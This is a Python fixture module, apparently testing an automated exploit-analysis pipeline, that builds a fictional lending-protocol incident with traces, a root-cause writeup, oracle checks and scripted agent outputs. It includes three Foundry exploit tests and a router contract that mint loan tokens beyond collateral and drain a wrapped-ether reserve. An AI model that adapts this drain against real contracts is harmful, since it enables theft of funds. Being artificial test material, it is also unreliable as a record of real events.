    "weth9_eth_delta": -16_847_219_596_237_316_941,
}

VAL_ORACLE_IDS = (
    "H1_vy_total_supply_increases",
    "H2_paxg_cap_increases",
    "H3_paxg_cap_above_collateral_after",
    "H4_vy_collateralized_loan_opened",
    "S1_attacker_eth_profit",
    "S2_weth9_reserve_depletion",
)

VAL_PARTICIPANTS = ParticipantSet(
    origin=Address(VAL_EOA),
    adversary_eoas=frozenset({Address(VAL_EOA), Address(VAL_EOA_2)}),
    adversary_contracts=frozenset({Address(VAL_ROUTER)}),
    victims=frozenset({Address(VAL_OFFICER), Address(VAL_PROXY), Address(VAL_WETH9)}),
    helpers=frozenset({Address(VAL_REGISTRAR), Address(VAL_PAXG), Address(VAL_VY)}),
)

#: Origin-account activity inside the mined window, block order: the router
#: deployment, twelve probe calls against unrelated venues, then the seed.
VAL_WINDOW_UNIVERSE = (
    (
        _record(VAL_TX_DEPLOY, VAL_SEED_BLOCK - 40, None, None,
                gas_used=1_100_000, gas_price=VAL_GAS_PRICE, sender=VAL_EOA),
    )
    + tuple(
        _record(
            _tx(f"ab{i:02d}", f"{i:04d}"),
            VAL_SEED_BLOCK - 39 + 3 * i,
            _addr(f"deca{i:02d}"),
            "0x095ea7b3" if i % 2 else "0xa9059cbb",
            gas_used=52_000,
            gas_price=VAL_GAS_PRICE,
            sender=VAL_EOA,
        )
        for i in range(12)
    )
    + (
        _record(VAL_SEED, VAL_SEED_BLOCK, VAL_ROUTER, "0xacce55ed",
                gas_used=VAL_GAS_USED, gas_price=VAL_GAS_PRICE, sender=VAL_EOA),
    )
)


def _val_seed_trace() -> dict[str, Any]:
    return {
        "root": {
            "call_type": "CALL",
            "from": VAL_EOA,
            "to": VAL_ROUTER,
            "value": VAL_VALUE_BEFORE,
            "gas_used": VAL_GAS_USED,
            "selector": "0xacce55ed",
            "error": None,
            "children": [
                {
                    "call_type": "CALL",
                    "from": VAL_ROUTER,
                    "to": VAL_PROXY,
                    "value": 0,
                    "gas_used": 2_100_000,
                    "selector": "0x91cca431",
                    "error": None,
                    "children": [
                        {
                            "call_type": "DELEGATECALL",
                            "from": VAL_PROXY,
                            "to": VAL_OFFICER,
                            "value": 0,
                            "gas_used": 2_050_000,
                            "selector": "0x91cca431",
                            "error": None,
                            "children": [
                                {
                                    "call_type": "CALL",
                                    "from": VAL_PROXY,
                                    "to": VAL_REGISTRAR,
                                    "value": 0,
                                    "gas_used": 90_000,
                                    "selector": "0x3a1b2c3d",
                                    "error": None,
                                    "children": [],
                                },
                                {
                                    "call_type": "CALL",
                                    "from": VAL_PROXY,
                                    "to": VAL_PAXG,
                                    "value": 0,
                                    "gas_used": 120_000,
                                    "selector": "0x70a08231",
                                    "error": None,
                                    "children": [],
                                },
                                {
                                    "call_type": "CALL",
                                    "from": VAL_PROXY,
                                    "to": VAL_VY,
                                    "value": 0,
                                    "gas_used": 160_000,
                                    "selector": "0x40c10f19",
                                    "error": None,
                                    "children": [],
                                },
                            ],
                        }
                    ],
                },
                {
                    "call_type": "CALL",
                    "from": VAL_ROUTER,
                    "to": VAL_WETH9,
                    "value": 0,
                    "gas_used": 45_000,
                    "selector": "0x2e1a7d4d",
                    "error": None,
                    "children": [],
                },
                {
                    "call_type": "CALL",
                    "from": VAL_ROUTER,
                    "to": VAL_EOA,
                    "value": VAL_VALUE_AFTER,
                    "gas_used": 0,
                    "selector": None,
                    "error": None,
                    "children": [],
                },
                {
                    "call_type": "CALL",
                    "from": VAL_ROUTER,
                    "to": VAL_EOA_2,
                    "value": VAL_EOA2_GAIN,
                    "gas_used": 0,
                    "selector": None,
                    "error": None,
                    "children": [],
                },
            ],
        }
    }


_VAL_OFFICER_SOURCE = """\
// Verified source (excerpt): settlement order of the LTV check.
contract ValinityLoanOfficer {
    function acquireByLTVDisparity(uint256 notional) external payable {
        uint256 cap = registrar.capOf(address(paxg));
        // BUG: the registrar applies queued cap raises when capOf is read a
        // second time during settlement, so the collateral check below uses
        // the stale cap while minting uses the raised one.
        require(paxg.balanceOf(address(this)) <= cap, "collateral above cap");
        registrar.applyQueuedRaise(address(paxg));
        vy.mint(msg.sender, notional * registrar.capOf(address(paxg)) / cap);
        loans[msg.sender].push(Loan(notional, block.number));
    }
}
"""

_VAL_REGISTRAR_SOURCE = """\
// Verified source (excerpt): queued raises apply on the next read.
contract CapRegistrar {
    function applyQueuedRaise(address asset) external {
        // Anyone may trigger application; queuing is permissioned but the
        // incident queue already held a pending raise for the asset.
        caps[asset] = queued[asset];
    }
}
"""


def _val_fixture_items() -> list[tuple[DataRequest, dict[str, Any]]]:
    chain = VAL_CHAIN
    lo = VAL_SEED_BLOCK - DEFAULT_WINDOW
    hi = VAL_SEED_BLOCK + DEFAULT_WINDOW
    items: list[tuple[DataRequest, dict[str, Any]]] = []

    items.append(
        (
            DataRequest(kind="tx_metadata", chainid=chain, target=VAL_SEED),
            _tx_metadata(
                VAL_SEED, chain, VAL_SEED_BLOCK, VAL_EOA, VAL_ROUTER,
                "0xacce55ed", VAL_GAS_USED, VAL_GAS_PRICE,
            ),
        )
    )
    items.append(
        (DataRequest(kind="tx_trace", chainid=chain, target=VAL_SEED), _val_seed_trace())
    )
    items.append(
        (
            DataRequest(kind="balance_diff", chainid=chain, target=VAL_SEED),
            {
                "entries": [
                    {"address": VAL_WETH9, "asset": "native", "delta": VAL_WETH9_LOSS, "decimals": 18},
                    {"address": VAL_EOA, "asset": "native", "delta": VAL_EOA_GAIN, "decimals": 18},
                    {"address": VAL_EOA_2, "asset": "native", "delta": VAL_EOA2_GAIN, "decimals": 18},
                ]
            },
        )
    )

    # Seed context: the event log, the storage diff, and every contract the
    # seed trace calls.
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_ROUTER),
            _contract_meta(VAL_ROUTER, chain, False, "bytecode", None, "0x6080604052600436"),
        )
    )
    items.append(
        (
            DataRequest(kind="receipt_logs", chainid=chain, target=VAL_SEED),
            {
                "logs": [
                    {"address": VAL_REGISTRAR, "event": "CapRaised",
                     "data": {"asset": VAL_PAXG, "old_cap": VAL_CAP_BEFORE, "new_cap": VAL_CAP_AFTER}},
                    {"address": VAL_VY, "event": "Transfer",
                     "data": {"from": _addr("0f", "00"), "to": VAL_ROUTER, "value": VAL_VY_SUPPLY_DELTA}},
                    {"address": VAL_WETH9, "event": "Withdrawal",
                     "data": {"src": VAL_ROUTER, "wad": -VAL_WETH9_LOSS}},
                ]
            },
        )
    )
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_WETH9),
            _contract_meta(VAL_WETH9, chain, True, "verified_source", "WETH9",
                           "// canonical wrapped-ether contract"),
        )
    )
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_PAXG),
            _contract_meta(VAL_PAXG, chain, True, "verified_source", "PAXGToken",
                           "// capped gold-backed token"),
        )
    )
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_VY),
            _contract_meta(VAL_VY, chain, True, "verified_source", "ValinityToken",
                           "// mintable loan token, minter = loan officer proxy"),
        )
    )
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_PROXY),
            _contract_meta(VAL_PROXY, chain, True, "verified_source", "ERC1967Proxy",
                           "// standard proxy", implementation=VAL_OFFICER),
        )
    )
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_REGISTRAR),
            _contract_meta(VAL_REGISTRAR, chain, True, "verified_source", "CapRegistrar",
                           _VAL_REGISTRAR_SOURCE),
        )
    )
    items.append(
        (
            DataRequest(kind="state_diff", chainid=chain, target=VAL_SEED),
            {
                "accounts": {
                    VAL_PAXG: {"storage": {"0x5": {"before": hex(VAL_CAP_BEFORE),
                                                   "after": hex(VAL_CAP_AFTER)}}},
                    VAL_VY: {"storage": {"0x2": {"before": hex(VAL_VY_SUPPLY_BEFORE),
                                                 "after": hex(VAL_VY_SUPPLY_AFTER)}}},
                }
            },
        )
    )

    # Batch 1: pre-state reads and the router's decompilation.
    items.append(
        (
            DataRequest(kind="storage_slot", chainid=chain, target=VAL_PAXG,
                        extra={"slot": "0x5", "block": VAL_FORK_BLOCK}),
            {"value_hex": hex(VAL_CAP_BEFORE)},
        )
    )
    items.append(
        (
            DataRequest(
                kind="storage_slot", chainid=chain, target=VAL_PROXY,
                extra={
                    "slot": "0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc",
                    "block": VAL_FORK_BLOCK,
                },
            ),
            {"value_hex": "0x" + "0" * 24 + VAL_OFFICER[2:]},
        )
    )
    items.append(
        (
            DataRequest(kind="txlist", chainid=chain, target=VAL_EOA, block_lo=lo, block_hi=hi),
            {"records": list(VAL_WINDOW_UNIVERSE)},
        )
    )
    # Counterpart lists for the other adversary-side accounts; the second
    # beneficiary only ever received internal transfers, and the router's
    # explorer view repeats the deployment and the seed.
    items.append(
        (
            DataRequest(kind="txlist", chainid=chain, target=VAL_EOA_2, block_lo=lo, block_hi=hi),
            {"records": []},
        )
    )
    items.append(
        (
            DataRequest(kind="txlist", chainid=chain, target=VAL_ROUTER, block_lo=lo, block_hi=hi),
            {"records": [VAL_WINDOW_UNIVERSE[0], VAL_WINDOW_UNIVERSE[-1]]},
        )
    )
    items.append(
        (
            DataRequest(kind="decompile", chainid=chain, target=VAL_ROUTER),
            {
                "address": VAL_ROUTER,
                "source_kind": "decompiled",
                "content": (
                    "function selector_acce55ed() { proxy.call(acquireByLTVDisparity); "
                    "weth9.withdraw(); origin.send(balance); }"
                ),
            },
        )
    )

    # Batch 2: the second beneficiary and remaining pre-state.
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_EOA_2),
            _contract_meta(VAL_EOA_2, chain, False, "unavailable", None, ""),
        )
    )
    items.append(
        (
            DataRequest(kind="storage_slot", chainid=chain, target=VAL_VY,
                        extra={"slot": "0x2", "block": VAL_FORK_BLOCK}),
            {"value_hex": hex(VAL_VY_SUPPLY_BEFORE)},
        )
    )
    items.append(
        (
            DataRequest(kind="storage_slot", chainid=chain, target=VAL_WETH9,
                        extra={"slot": "0x3", "block": VAL_FORK_BLOCK}),
            {"value_hex": hex(3_100_000_000_000_000_000_000_000)},
        )
    )

    # Post-challenge batch: the seed trace and balance diff again, and the
    # loan officer implementation.
    items.append(
        (
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_OFFICER),
            _contract_meta(VAL_OFFICER, chain, True, "verified_source",
                           "ValinityLoanOfficer", _VAL_OFFICER_SOURCE),
        )
    )
    return items


def _val_requests_batches() -> list[list[DataRequest]]:
    chain = VAL_CHAIN
    lo = VAL_SEED_BLOCK - DEFAULT_WINDOW
    hi = VAL_SEED_BLOCK + DEFAULT_WINDOW
    return [
        [
            DataRequest(kind="storage_slot", chainid=chain, target=VAL_PAXG,
                        extra={"slot": "0x5", "block": VAL_FORK_BLOCK},
                        reason="cap value at the fork block"),
            DataRequest(
                kind="storage_slot", chainid=chain, target=VAL_PROXY,
                extra={
                    "slot": "0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc",
                    "block": VAL_FORK_BLOCK,
                },
                reason="implementation behind the proxy",
            ),
            DataRequest(kind="txlist", chainid=chain, target=VAL_EOA,
                        block_lo=lo, block_hi=hi,
                        reason="origin activity around the seed"),
            DataRequest(kind="decompile", chainid=chain, target=VAL_ROUTER,
                        reason="router call sequence"),
        ],
        [
            DataRequest(kind="contract_meta", chainid=chain, target=VAL_EOA_2,
                        reason="second beneficiary of the exit transfer"),
            DataRequest(kind="storage_slot", chainid=chain, target=VAL_VY,
                        extra={"slot": "0x2", "block": VAL_FORK_BLOCK},
                        reason="loan-token supply at the fork block"),
            DataRequest(kind="storage_slot", chainid=chain, target=VAL_WETH9,
                        extra={"slot": "0x3", "block": VAL_FORK_BLOCK},
                        reason="reserve depth before the incident"),
        ],
    ]


def _val_root_cause(second_pass: bool) -> dict[str, Any]:
    mechanism = (
        "One call from the origin through an unverified router opens a "
        "collateralized loan on the loan officer while the cap registrar "
        "applies a queued supply-cap raise mid-settlement. The collateral "
        "check runs against the stale cap, the mint against the raised one, "
        "so the loan mints loan tokens far beyond collateral and unwinds "
        "through the wrapped-ether reserve for native profit."
    )
    if second_pass:
        mechanism += (
            " The opcode-level trace of the seed shows the registrar call "
            "between the collateral check and the mint, and the loan "
            "officer's verified source confirms the re-read of capOf during "
            "settlement."
        )
    doc = {
        "chainid": VAL_CHAIN,
        "seed": [VAL_SEED],
        "act": {
            "is_act": True,
            "predicate": (
                f"value_after({VAL_VALUE_AFTER}) - value_before({VAL_VALUE_BEFORE}) "
                f"- fees({VAL_FEES}) = {VAL_MARGIN} wei > 0 under standard submission"
            ),
        },
        "lifecycle": [
            {"txhash": VAL_TX_DEPLOY, "phase": "setup"},
            {"txhash": VAL_SEED, "phase": "exploit"},
        ],
        "all_relevant_txs": [VAL_TX_DEPLOY, VAL_SEED],
        "roles": {
            "attacker_eoas": [VAL_EOA, VAL_EOA_2],
            "attacker_contracts": [VAL_ROUTER],
            "victim_contracts": [VAL_OFFICER, VAL_PROXY, VAL_WETH9],
            "helpers": [VAL_REGISTRAR, VAL_PAXG, VAL_VY],
        },
        "mechanism": mechanism,
        "violated_invariant": (
            "Loan collateralization must be checked against the supply cap in "
            "force when the loan settles, and cap raises must not be applicable "
            "by arbitrary callers mid-settlement."
        ),
        "fork_block": VAL_FORK_BLOCK,
        "incident_constants": [VAL_INCIDENT_SWAP],
    }
    if second_pass:
        doc["evidence"] = [
            "artifacts/root_cause/seed/1/" + VAL_SEED + "/trace.json",
            "artifacts/root_cause/data_collector/iter_5",
        ]
    return doc


def _val_oracle_definition_doc() -> dict[str, Any]:
    return {
        "chainid": VAL_CHAIN,
        "fork_block": VAL_FORK_BLOCK,
        "variables": [
            {"name": "vy_token", "kind": "asset", "address": VAL_VY},
            {"name": "paxg_token", "kind": "asset", "address": VAL_PAXG},
            {"name": "weth9", "kind": "victim_contract", "address": VAL_WETH9},
            {"name": "loan_officer", "kind": "victim_contract", "address": VAL_PROXY},
            {"name": "attacker", "kind": "attacker_role", "address": None},
        ],
        "pre_check": [],
        "hard": [
            {
                "id": "H1_vy_total_supply_increases",
                "check": {"lhs": "vy_total_supply_after", "comparator": "gt",
                          "rhs": "vy_total_supply_before"},
                "description": "the loan mints new loan tokens",
            },
            {
                "id": "H2_paxg_cap_increases",
                "check": {"lhs": "paxg_cap_after", "comparator": "gt",
                          "rhs": "paxg_cap_before"},
                "description": "the queued cap raise applies mid-settlement",
            },
            {
                "id": "H3_paxg_cap_above_collateral_after",
                "check": {"lhs": "paxg_cap_after", "comparator": "gt",
                          "rhs": "paxg_collateral_after"},
                "description": "post-raise cap exceeds held collateral",
            },
            {
                "id": "H4_vy_collateralized_loan_opened",
                "check": {"lhs": "loan_opened", "comparator": "eq", "rhs": "true"},
                "description": "a collateralized loan exists after the call",
            },
        ],
        "soft": [
            {
                "id": "S1_attacker_eth_profit",
                "check": {"lhs": "attacker_eth_delta", "comparator": "ge",
                          "rhs": "1880000000000000000"},
                "description": "net native profit on the incident's per-loan scale",
                "tolerance": {
                    "kind": "relative_bps",
                    "value": 1000,
                    "rationale": "profit varies with pool depth at the fork block",
                },
            },
            {
                "id": "S2_weth9_reserve_depletion",
                "check": {"lhs": "weth9_eth_delta", "comparator": "le",
                          "rhs": "-16000000000000000000"},
                "description": "the wrapped-ether reserve funds the exit",
            },
        ],
        "success_criteria": (
            "From a fresh address on a fork at block "
            f"{VAL_FORK_BLOCK}, open a collateralized loan that applies the "
            "queued cap raise mid-settlement, mint loan tokens beyond "
            "collateral, and exit through the wrapped-ether reserve with "
            "strictly positive native profit."
        ),
        "setup": (
            "createSelectFork at FORK_BLOCK; attacker from makeAddr; the "
            "incident router is reimplemented locally, never reused."
        ),
    }


_VAL_EXPLOIT_COMMON_TOP = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Test} from "forge-std/Test.sol";
import {console2} from "forge-std/console2.sol";
"""

_VAL_EXPLOIT_V0 = (
    _VAL_EXPLOIT_COMMON_TOP
    + """
interface IERC20View {
    function totalSupply() external view returns (uint256);
    function balanceOf(address holder) external view returns (uint256);
}

interface ICapRegistrar {
    function capOf(address asset) external view returns (uint256);
}

interface ILoanOfficer {
    function loanCount() external view returns (uint256);
}

interface ILoanRouter {
    function acquireAndExit() external payable;
}

/// Loan-cap disparity drain, driven through the router already on chain.
contract ExploitTest is Test {
    uint256 constant FORK_BLOCK = __FORK_BLOCK__;

    IERC20View constant VY = IERC20View(__VY__);
    IERC20View constant PAXG = IERC20View(__PAXG__);
    address constant WETH9 = __WETH9__;
    ILoanOfficer constant OFFICER = ILoanOfficer(__PROXY__);
    ICapRegistrar constant REGISTRAR = ICapRegistrar(__REGISTRAR__);
    // Reuses the incident's router deployment directly.
    ILoanRouter constant ROUTER = ILoanRouter(__ROUTER__);

    address attacker;

    function setUp() public {
        vm.createSelectFork(vm.envString("RPC_URL"), FORK_BLOCK);
        attacker = makeAddr("attacker");
        vm.label(WETH9, "WETH9");
        vm.label(address(ROUTER), "IncidentRouter");
        vm.deal(attacker, 20 ether);
    }

    function testExploit() public {
        uint256 supplyBefore = VY.totalSupply();
        uint256 capBefore = REGISTRAR.capOf(address(PAXG));
        uint256 loansBefore = OFFICER.loanCount();

        vm.startPrank(attacker);
        ROUTER.acquireAndExit{value: 18 ether}();
        vm.stopPrank();

        assertGt(VY.totalSupply(), supplyBefore, "VY supply must inflate");
        assertGt(REGISTRAR.capOf(address(PAXG)), capBefore, "cap must rise");
        assertTrue(OFFICER.loanCount() > loansBefore, "no loan opened");
    }
}
"""
).replace("__FORK_BLOCK__", str(VAL_FORK_BLOCK)).replace("__VY__", VAL_VY).replace(
    "__PAXG__", VAL_PAXG
).replace("__WETH9__", VAL_WETH9).replace("__PROXY__", VAL_PROXY).replace(
    "__REGISTRAR__", VAL_REGISTRAR
).replace("__ROUTER__", VAL_ROUTER)


_VAL_REPLICA_SOL = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IOfficerLoan {
    function acquireByLTVDisparity(uint256 notional) external payable;
    function loanCount() external view returns (uint256);
}

interface IRegistrarRaise {
    function applyQueuedRaise(address asset) external;
    function capOf(address asset) external view returns (uint256);
}

interface IWETH9Min {
    function withdraw(uint256 wad) external;
    function balanceOf(address holder) external view returns (uint256);
}

/// Local reimplementation of the incident router's two-call sequence.
///
/// Deployed fresh by the test, so the reproduction never touches the
/// attacker's on-chain deployment; the sequence itself is the exploit.
contract LoanRouterReplica {
    IOfficerLoan immutable officer;
    IRegistrarRaise immutable registrar;
    IWETH9Min immutable weth9;
    address immutable paxg;
    address immutable owner;

    constructor(address officer_, address registrar_, address weth9_, address paxg_) {
        officer = IOfficerLoan(officer_);
        registrar = IRegistrarRaise(registrar_);
        weth9 = IWETH9Min(weth9_);
        paxg = paxg_;
        owner = msg.sender;
    }

    /// Open the loan at the stale cap; the officer's settlement applies the
    /// queued raise between its collateral check and its mint.
    function acquireAndExit() external payable {
        require(msg.sender == owner, "owner only");
        officer.acquireByLTVDisparity{value: msg.value}(msg.value);
        // Unwind: pull the minted value out through the wrapped-ether pool.
        uint256 held = weth9.balanceOf(address(this));
        if (held > 0) {
            weth9.withdraw(held);
        }
        (bool ok, ) = owner.call{value: address(this).balance}("");
        require(ok, "exit transfer failed");
    }

    receive() external payable {}
}
"""

_VAL_EXPLOIT_V1 = (
    _VAL_EXPLOIT_COMMON_TOP
    + """
import {LoanRouterReplica} from "../src/LoanRouterReplica.sol";

interface IERC20View {
    function totalSupply() external view returns (uint256);
    function balanceOf(address holder) external view returns (uint256);
}

interface ICapRegistrar {
    function capOf(address asset) external view returns (uint256);
    function applyQueuedRaise(address asset) external;
}

interface ILoanOfficer {
    function loanCount() external view returns (uint256);
}

/// Loan-cap disparity drain through a locally deployed router replica.
/// This revision applies the queued raise BEFORE opening the loan.
contract ExploitTest is Test {
    uint256 constant FORK_BLOCK = __FORK_BLOCK__;

    IERC20View constant VY = IERC20View(__VY__);
    IERC20View constant PAXG = IERC20View(__PAXG__);
    address constant WETH9 = __WETH9__;
    ILoanOfficer constant OFFICER = ILoanOfficer(__PROXY__);
    ICapRegistrar constant REGISTRAR = ICapRegistrar(__REGISTRAR__);

    address attacker;
    LoanRouterReplica router;

    function setUp() public {
        vm.createSelectFork(vm.envString("RPC_URL"), FORK_BLOCK);
        attacker = makeAddr("attacker");
        vm.label(WETH9, "WETH9");
        vm.deal(attacker, 20 ether);
        vm.startPrank(attacker);
        router = new LoanRouterReplica(address(OFFICER), address(REGISTRAR), WETH9, address(PAXG));
        vm.stopPrank();
    }

    function testExploit() public {
        uint256 supplyBefore = VY.totalSupply();
        uint256 capBefore = REGISTRAR.capOf(address(PAXG));

        vm.startPrank(attacker);
        // Apply the raise first, then open the loan against the new cap.
        REGISTRAR.applyQueuedRaise(address(PAXG));
        router.acquireAndExit{value: 18 ether}();
        vm.stopPrank();

        assertGt(VY.totalSupply(), supplyBefore, "VY supply must inflate");
        assertGt(REGISTRAR.capOf(address(PAXG)), capBefore, "cap must rise");
    }
}
"""
).replace("__FORK_BLOCK__", str(VAL_FORK_BLOCK)).replace("__VY__", VAL_VY).replace(
    "__PAXG__", VAL_PAXG
).replace("__WETH9__", VAL_WETH9).replace("__PROXY__", VAL_PROXY).replace(
    "__REGISTRAR__", VAL_REGISTRAR
)

_VAL_EXPLOIT_V2 = (
    _VAL_EXPLOIT_COMMON_TOP
    + """
import {LoanRouterReplica} from "../src/LoanRouterReplica.sol";

interface IERC20View {
    function totalSupply() external view returns (uint256);
    function balanceOf(address holder) external view returns (uint256);
}

interface ICapRegistrar {
    function capOf(address asset) external view returns (uint256);
}

interface ILoanOfficer {
    function loanCount() external view returns (uint256);
}

/// LTV-disparity loan against a mid-settlement supply-cap raise.
///
/// The loan officer checks collateral against the cap registrar before the
/// registrar applies a queued raise, so a borrower can open a loan
/// collateralized at the stale cap and exit through the wrapped-ether
/// reserve with the difference. Every identity below is fresh; the
/// incident's on-chain router is reimplemented, never called.
contract ExploitTest is Test {
    uint256 constant FORK_BLOCK = __FORK_BLOCK__;

    IERC20View constant VY = IERC20View(__VY__);
    IERC20View constant PAXG = IERC20View(__PAXG__);
    address constant WETH9 = __WETH9__;
    ILoanOfficer constant OFFICER = ILoanOfficer(__PROXY__);
    ICapRegistrar constant REGISTRAR = ICapRegistrar(__REGISTRAR__);

    address attacker;
    LoanRouterReplica router;

    function setUp() public {
        vm.createSelectFork(vm.envString("RPC_URL"), FORK_BLOCK);
        attacker = makeAddr("attacker");
        vm.label(WETH9, "WETH9");
        vm.label(address(VY), "LoanToken");
        vm.label(address(PAXG), "CollateralToken");
        vm.label(address(OFFICER), "LoanOfficer");
        vm.label(address(REGISTRAR), "CapRegistrar");
        vm.deal(attacker, 20 ether);
        vm.startPrank(attacker);
        router = new LoanRouterReplica(address(OFFICER), address(REGISTRAR), WETH9, address(PAXG));
        vm.label(address(router), "LoanRouterReplica");
        vm.stopPrank();
    }

    function testExploit() public {
        uint256 supplyBefore = VY.totalSupply();
        uint256 capBefore = REGISTRAR.capOf(address(PAXG));
        uint256 loansBefore = OFFICER.loanCount();
        uint256 attackerBefore = attacker.balance;
        uint256 weth9Before = WETH9.balance;

        vm.startPrank(attacker);
        // One call: open the loan at the stale cap, let settlement apply the
        // queued raise, mint beyond collateral, and unwind through WETH9.
        router.acquireAndExit{value: 18 ether}();
        vm.stopPrank();

        uint256 supplyAfter = VY.totalSupply();
        uint256 capAfter = REGISTRAR.capOf(address(PAXG));
        uint256 collateralAfter = PAXG.balanceOf(address(OFFICER));
        bool loanOpened = OFFICER.loanCount() > loansBefore;

        // Success predicate: supply and cap both inflate, the loan exists,
        // and the attacker nets native profit while the reserve falls.
        assertGt(supplyAfter, supplyBefore, "VY supply must inflate");
        assertGt(capAfter, capBefore, "cap must rise mid-settlement");
        assertGt(capAfter, collateralAfter, "cap must exceed collateral");
        assertTrue(loanOpened, "no collateralized loan was opened");
        assertGt(attacker.balance, attackerBefore, "attacker took no profit");
        assertLt(WETH9.balance, weth9Before, "reserve did not fall");

        console2.log("OBS vy_total_supply_before=%s", supplyBefore);
        console2.log("OBS vy_total_supply_after=%s", supplyAfter);
        console2.log("OBS paxg_cap_before=%s", capBefore);
        console2.log("OBS paxg_cap_after=%s", capAfter);
        console2.log("OBS paxg_collateral_after=%s", collateralAfter);
        console2.log("OBS loan_opened=%s", loanOpened);
        console2.log("OBS attacker_eth_delta=%s", attacker.balance - attackerBefore);
        console2.log("OBS weth9_eth_delta=-%s", weth9Before - WETH9.balance);
    }
}
"""
).replace("__FORK_BLOCK__", str(VAL_FORK_BLOCK)).replace("__VY__", VAL_VY).replace(
    "__PAXG__", VAL_PAXG
).replace("__WETH9__", VAL_WETH9).replace("__PROXY__", VAL_PROXY).replace(
    "__REGISTRAR__", VAL_REGISTRAR
)


def _val_obs_lines() -> str:
    lines = []
    for name, value in VAL_OBSERVATIONS.items():
        if isinstance(value, bool):
            token = "true" if value else "false"
        else:
            token = str(value)
        lines.append(f"  OBS {name}={token}")
    return "\n".join(lines)


_VAL_RUN_0 = f"""\
Compiling 19 files with Solc 0.8.24
Compiler run successful!

Ran 1 test for test/Exploit.sol:ExploitTest
[PASS] testExploit() (gas: 2954411)
Logs:
  Router: incident deployment reused at {VAL_ROUTER}
{_val_obs_lines()}

Suite result: ok. 1 passed; 0 failed; 0 skipped; finished in 3.96s (2.12s CPU time)
"""

_VAL_RUN_1 = """\
Compiling 20 files with Solc 0.8.24
Compiler run successful!

Ran 1 test for test/Exploit.sol:ExploitTest
[FAIL. Reason: revert: acquireByLTVDisparity: collateral above cap] testExploit() (gas: 412871)

Suite result: FAILED. 0 passed; 1 failed; 0 skipped; finished in 1.12s (0.64s CPU time)
"""

_VAL_RUN_2 = f"""\
Compiling 20 files with Solc 0.8.24
Compiler run successful!

Ran 1 test for test/Exploit.sol:ExploitTest
[PASS] testExploit() (gas: 3081294)
Logs:
  Attacker ETH delta: {VAL_OBSERVATIONS["attacker_eth_delta"]}
  WETH9 ETH delta: {VAL_OBSERVATIONS["weth9_eth_delta"]}
  VY totalSupply delta: {VAL_VY_SUPPLY_DELTA}
  PAXG cap before / after: {VAL_CAP_BEFORE} {VAL_CAP_AFTER}
{_val_obs_lines()}

Suite result: ok. 1 passed; 0 failed; 0 skipped; finished in 4.07s (2.61s CPU time)
"""


def _val_script_entries() -> dict[str, list[dict[str, Any]]]:
    batches = _val_requests_batches()
    analyzers = [
        _analysis_doc(
            summary=(
                "Cap and supply pre-state needed at the fork block, plus the "
                "router's decompiled sequence and origin activity."
            ),
            hypothesis="queued raise applies on second capOf read",
            contracts=[VAL_PAXG, VAL_PROXY, VAL_ROUTER],
            relevant=[VAL_SEED, VAL_TX_DEPLOY],
            requests=batches[0],
        ),
        _analysis_doc(
            summary=(
                "Router deployment found one block-range back; the second "
                "beneficiary and remaining pre-state close the accounting."
            ),
            hypothesis="two beneficiaries split the native exit",
            contracts=[VAL_VY, VAL_WETH9],
            relevant=[VAL_SEED, VAL_TX_DEPLOY],
            requests=batches[1],
        ),
        _analysis_doc(
            summary=(
                "Draft root cause: mid-settlement cap raise lets one call "
                "mint loan tokens beyond collateral and drain the "
                "wrapped-ether reserve."
            ),
            hypothesis="cap raise applied between check and mint",
            contracts=[VAL_ROUTER, VAL_PROXY, VAL_OFFICER, VAL_REGISTRAR],
            relevant=[VAL_TX_DEPLOY, VAL_SEED],
            requests=[],
            root_cause=_val_root_cause(second_pass=False),
        ),
        _analysis_doc(
            summary=(
                "Re-derived with the opcode-level seed trace and the loan "
                "officer's verified source in evidence; the settlement-order "
                "claim is now cited line by line."
            ),
            hypothesis="cap raise applied between check and mint",
            contracts=[VAL_ROUTER, VAL_PROXY, VAL_OFFICER, VAL_REGISTRAR],
            relevant=[VAL_TX_DEPLOY, VAL_SEED],
            requests=[],
            root_cause=_val_root_cause(second_pass=True),
        ),
    ]
    challengers = [
        {
            "status": "Reject",
            "feedback": (
                "The draft asserts the registrar applied the raise between the "
                "collateral check and the mint, but no opcode-level trace of "
                "the seed transaction is cited and the loan officer's "
                "implementation code is not in evidence. Fetch both and "
                "re-derive the settlement order."
            ),
            "missing_evidence": [VAL_SEED, VAL_OFFICER],
            "reject_reasons": ["missing_onchain_traces"],
        },
        {
            "status": "Pass",
            "feedback": (
                "The settlement-order claim is now backed by the seed trace "
                "and the verified loan-officer source; profit accounting "
                "matches the recorded balance deltas."
            ),
            "missing_evidence": [],
        },
    ]
    validators = [
        {
            "overall_status": "Pass",
            "oracle_results": [
                {"id": oid, "satisfied": True} for oid in VAL_ORACLE_IDS
            ],
            "rubric": {
                "correctness": "compiles, runs clean, fork pinned",
                "taint": "replica router deployed in-test; no incident address",
            },
        },
    ]
    return {
        "root_cause_analyzer": analyzers,
        "root_cause_challenger": challengers,
        "oracle_generator": [_val_oracle_definition_doc()],
        "poc_reproducer": [
            {
                "files": {"test/Exploit.sol": _VAL_EXPLOIT_V0},
                "notes": "drives the router already deployed on chain",
            },
            {
                "files": {
                    "test/Exploit.sol": _VAL_EXPLOIT_V1,
                    "src/LoanRouterReplica.sol": _VAL_REPLICA_SOL,
                },
                "notes": "local replica; raise applied before the loan",
            },
            {
                "files": {
                    "test/Exploit.sol": _VAL_EXPLOIT_V2,
                    "src/LoanRouterReplica.sol": _VAL_REPLICA_SOL,
                },
                "notes": "raise left queued; settlement applies it mid-call",
            },
        ],
        "poc_validator": validators,
    }


# ==========================================================================
# Bundle assembly.


@dataclass(frozen=True)
class CaseBundle:
    """One materialized case directory plus its replay expectations."""

    name: str
    chainid: int
    seed_txhash: str
    root: Path
    expected: dict[str, Any]

